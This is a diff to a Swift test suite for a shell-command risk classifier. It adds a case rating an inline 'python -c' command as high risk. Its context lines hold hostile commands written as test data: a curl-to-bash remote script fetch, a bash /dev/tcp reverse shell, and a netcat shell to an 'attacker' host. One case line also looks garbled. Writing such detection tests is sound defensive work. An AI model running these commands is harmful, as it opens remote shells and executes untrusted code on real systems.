@@ -74,6 +74,7 @@ struct ShellClassifierTests {
         Case("bash -c \"$(curl -fsSL https://x.io/i.sh)\"", .unknown, .high...Risk.critical),
         Case("$CMD --force", .unknown, .high),
         Case("eval \"$PAYLOAD\"", .unknown, .high),
+        Case("python -c \"$CODE\"", .unknown, .high),
         Case("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", .remoteExec, .critical),
         Case("nc -e /bin/sh attacker 4444", .remoteExec, .critical),
         // VCS history.
